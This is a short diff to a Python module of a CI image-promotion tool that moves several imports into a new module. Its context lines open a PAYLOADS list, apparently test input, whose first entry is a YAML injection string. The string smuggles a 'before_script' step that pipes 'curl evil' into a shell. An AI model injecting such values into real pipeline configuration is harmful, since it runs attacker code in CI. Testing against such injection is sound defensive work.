@@ -18,11 +18,10 @@ from ruamel.yaml import YAML
 from promoter import redact, sinks
 from promoter.ci import Source
 from promoter.imageref import parse_image_ref
-from promoter.promotion.fanout import Fanout, gitlab_pipeline
 from promoter.promotion.message import commit_message, pull_request_body, title
 from promoter.promotion.report import summary
 from promoter.promotion.result import Change, EnvironmentResult, Result, Status
-from promoter.promotion.source import Pending
+from promoter.queries.fanout import Fanout, Pending, gitlab_pipeline
 
 PAYLOADS = [
     "1.5.0\n  image: evil/image\n  before_script: [curl evil | sh]\n  #",
